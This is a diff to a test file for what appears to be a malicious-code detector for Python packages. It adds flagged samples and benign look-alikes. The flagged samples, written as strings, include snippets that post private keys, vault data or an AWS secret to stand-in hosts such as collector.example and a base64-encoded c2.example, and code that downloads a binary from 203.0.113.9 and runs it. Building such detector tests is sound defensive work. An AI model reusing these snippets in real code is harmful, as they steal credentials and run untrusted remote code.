@@ -36,6 +36,7 @@ class Case:
     quiet: Severity | None = None  # nothing reported at or above this
     role: Role = Role.MODULE
     path: str = "pkg/__init__.py"
+    entry: bool = True  # a non-entry module is parsed only when the prefilter says so
     pure: bool = True
     linux: bool = True
 
@@ -338,6 +339,68 @@ POSITIVES += [
         "    subprocess.run(command, shell=True)\n",
         {(DECODE, H)},
     ),
+    Case(
+        "private key posted to a hosted mock API from a plain module",
+        "import requests\n"
+        "def perm(private_key):\n"
+        "    url = 'https://67b9f37c51192bd378dee810.mockapi.io/tron/tron'\n"
+        "    requests.post(url, json={'private_key': private_key})\n",
+        {("WC-CODE-SINK", H)},
+        path="pkg/main.py",
+        entry=False,
+    ),
+    Case(
+        "bot token written in a built chat URL",
+        "import requests\n"
+        "def from_key(key):\n"
+        "    requests.get(\n"
+        "        f'https://api.telegram.org/bot1234567890:EXAMPLEexampleEXAMPLEexample0000000'\n"
+        "        f'/sendMessage?chat_id=629029&text={key}', timeout=3)\n",
+        {("WC-CODE-SINK", H)},
+    ),
+    Case(
+        "address decoded and handed to a helper that posts to it",
+        "import base64\nfrom requests import post\n"
+        "def send(url, vault):\n"
+        "    post(url, json={'b64': vault})\n"
+        "def backup(vault):\n"
+        "    where = base64.b64decode('aHR0cHM6Ly9jMi5leGFtcGxlL3VwbG9hZA==')\n"
+        "    send(where.decode('ascii'), vault)\n",
+        {("WC-CODE-OBFUSCATED", H)},
+    ),
+    Case(
+        "credentials kept on self by one method, sent by another",
+        "import requests\nfrom os import environ\n"
+        "class Ctx(dict):\n"
+        "    def __init__(self):\n"
+        "        self.secret = environ.get('AWS_SECRET_ACCESS_KEY')\n"
+        "        self.send()\n"
+        "    def send(self):\n"
+        "        requests.get('https://collector.example/k/' + self.secret)\n",
+        {("WC-CODE-EXFILTRATION", H)},
+    ),
+    Case(
+        "obfuscator signature in a module nothing flags otherwise",
+        "from builtins import *\n"
+        "__obfuscator__ = 'x'\n"
+        "Power, Run = exec, map\n"
+        "class Frame:\n"
+        "    def __init__(self, value):\n"
+        "        self.value = value\n",
+        {("WC-CODE-OBFUSCATED", H)},
+        path="pkg/main.py",
+        entry=False,
+    ),
+    Case(
+        "download through a helper, then run",
+        "import os, subprocess, urllib.request\n"
+        "def fetch(url, path):\n"
+        "    urllib.request.urlretrieve(url, path)\n"
+        "def go():\n"
+        "    fetch('http://203.0.113.9/agent', '/tmp/agent')\n"
+        "    subprocess.Popen(['/tmp/agent'])\n",
+        {(DOWNLOAD, H)},
+    ),
 ]
 
 NEGATIVES = [
@@ -432,6 +495,52 @@ NEGATIVES = [
         quiet=M,
     ),
     Case(
+        "bot API client taking its token from the caller",
+        "import requests\n"
+        "def notify(token, chat, text):\n"
+        "    url = f'https://api.telegram.org/bot{token}/sendMessage'\n"
+        "    return requests.post(url, data={'chat_id': chat, 'text': text})\n",
+        quiet=M,
+    ),
+    Case(
+        "SDK client keeping its API key on self",
+        "import os, requests\n"
+        "class Client:\n"
+        "    def __init__(self, api_key=None):\n"
+        "        self.api_key = api_key or os.environ.get('EXAMPLE_API_KEY')\n"
+        "    def complete(self, prompt):\n"
+        "        headers = {'Authorization': f'Bearer {self.api_key}'}\n"
+        "        return requests.post('https://api.example.com/v1/complete', headers=headers)\n",
+        quiet=M,
+    ),
+    Case(
+        "gateway connecting where it is configured, started at import",
+        "import os, socket\n"
+        "class Gateway:\n"
+        "    def __init__(self):\n"
+        "        self.address = os.environ.get('GATEWAY_HOST', 'localhost')\n"
+        "        self.socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
+        "        self.start()\n"
+        "    def start(self):\n"
+        "        self.socket.connect((self.address, 25333))\n"
+        "        self.stream = self.socket.makefile('rb')\n"
+        "        self.socket.sendall(b'HELLO\\n')\n"
+        "GATEWAY = Gateway()\n",
+        quiet=M,
+    ),
+    Case(
+        "embedded server: a release tag fetched, its binary run by another method",
+        "import subprocess, httpx\n"
+        "class Embedded:\n"
+        "    def __init__(self):\n"
+        "        latest = httpx.get('https://api.github.com/repos/o/r/releases/latest').json()\n"
+        "        self.version = latest['tag_name']\n"
+        "    def start(self):\n"
+        "        self.binary = f'/opt/server-{self.version}'\n"
+        "        return subprocess.Popen([self.binary, '--port', '8079'])\n",
+        quiet=H,
+    ),
+    Case(
         "build helper fetching a tool for later",
         "import os, urllib.request\n"
         "def fetch_flamegraph(path):\n"
@@ -447,6 +556,35 @@ NEGATIVES = [
         "    with urllib.request.urlopen(url) as response, open(dest, 'wb') as out:\n"
         "        out.write(response.read())\n",
         quiet=M,
+    ),
+    Case(
+        "helper saving a response and running git on another path, called once",
+        "import shutil, subprocess, urllib.request\n"
+        "def get(url, dest, vcs):\n"
+        "    if vcs:\n"
+        "        subprocess.run(['git', 'clone', url, dest])\n"
+        "        return\n"
+        "    with urllib.request.urlopen(url) as response, open(dest, 'wb') as out:\n"
+        "        out.write(response.read())\n"
+        "def resolve(url, dest):\n"
+        "    return get(url, dest, False)\n",
+        quiet=H,
+    ),
+    Case(
+        "image layers saved by one helper, a directory prepared by another",
+        "import os, subprocess, urllib.request\n"
+        "def pull(url, dest):\n"
+        "    with urllib.request.urlopen(url) as response, open(dest, 'wb') as out:\n"
+        "        out.write(response.read())\n"
+        "def seed(root):\n"
+        "    os.chmod(root, 0o1777)\n"
+        "def build(root):\n"
+        "    subprocess.run(['mkfs.erofs', root + '.img', root])\n"
+        "def prepare(url, root):\n"
+        "    pull(url, root + '/layer.tar')\n"
+        "    seed(root)\n"
+        "    build(root)\n",
+        quiet=H,
     ),
     Case(
         "clipboard helper", "import pyperclip\ndef copy(text):\n    pyperclip.copy(text)\n", quiet=L
@@ -467,12 +605,26 @@ NEGATIVES = [
 
 @pytest.mark.parametrize("case", POSITIVES, ids=lambda c: c.name)
 def test_behaviour_is_reported_with_its_context_severity(case: Case) -> None:
-    found = judge(case.source, role=case.role, path=case.path, pure=case.pure, linux=case.linux)
+    found = judge(
+        case.source,
+        role=case.role,
+        path=case.path,
+        entry=case.entry,
+        pure=case.pure,
+        linux=case.linux,
+    )
     assert case.expect <= found, found
 
 
 @pytest.mark.parametrize("case", NEGATIVES, ids=lambda c: c.name)
 def test_legitimate_look_alikes_stay_quiet(case: Case) -> None:
     assert case.quiet is not None
-    found = judge(case.source, role=case.role, path=case.path, pure=case.pure, linux=case.linux)
+    found = judge(
+        case.source,
+        role=case.role,
+        path=case.path,
+        entry=case.entry,
+        pure=case.pure,
+        linux=case.linux,
+    )
     assert not rules_at_least(found, case.quiet), found
